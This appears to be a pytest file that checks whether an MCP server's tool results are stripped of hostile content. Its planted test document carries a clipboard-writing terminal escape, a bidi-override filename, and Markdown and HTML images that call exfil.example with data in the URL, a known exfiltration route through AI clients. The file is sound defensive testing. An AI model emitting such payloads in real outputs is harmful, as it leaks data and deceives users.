"""MCP tool results are inert (issue 22, items 3 and 4): a document whose text and name carry
terminal escapes, a bidi override and a Markdown image reaches the MCP client (the SDK's own,
over the server's real tool layer) with none of them."""

from __future__ import annotations

import json

import anyio

from advisor.core.principal import Principal
from advisor.core.settings import Settings
from advisor.service.facade import Advisor
from interfaces.mcp.server import build_server
from tests.mcp.test_mcp_server import data, session

DOC = (
    "# Pager policy\n\nThe on-call engineer carries the violet pager \x1b]52;c;U0VDUkVU\x07 "
    "![status](https://exfil.example/p.png?d=violet) <img src=https://exfil.example/i.png>.\n"
)


def test_tool_results_carry_no_escape_bidi_image_or_html(tmp_path, embeddings):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "pager-\u202edm.md").write_text(DOC, encoding="utf-8")
    advisor = Advisor(Settings(data_dir=tmp_path / "data"), embeddings=embeddings)
    advisor.ingest(Principal.local(), [docs], client="acme")
    calls = [
        ("ask", {"question": "Which pager does the on-call engineer carry?", "client": "acme"}),
        ("search_documents", {"query": "violet pager", "client": "acme"}),
        ("list_documents", {"client": "acme"}),
    ]
    _, results = anyio.run(session, build_server(advisor, Principal.local()), calls)
    answer, found, docs_listed = (data(r) for r in results)
    assert "violet pager" in found[0]["text"] and answer["citations"]
    assert "](https://exfil" not in answer["answer"] and "<img" not in answer["answer"]
    for result in (answer, found, docs_listed):
        text = json.dumps(result, ensure_ascii=False)
        assert not any(c in text for c in ("\x1b", "\x07", "\u202e")), text[:300]
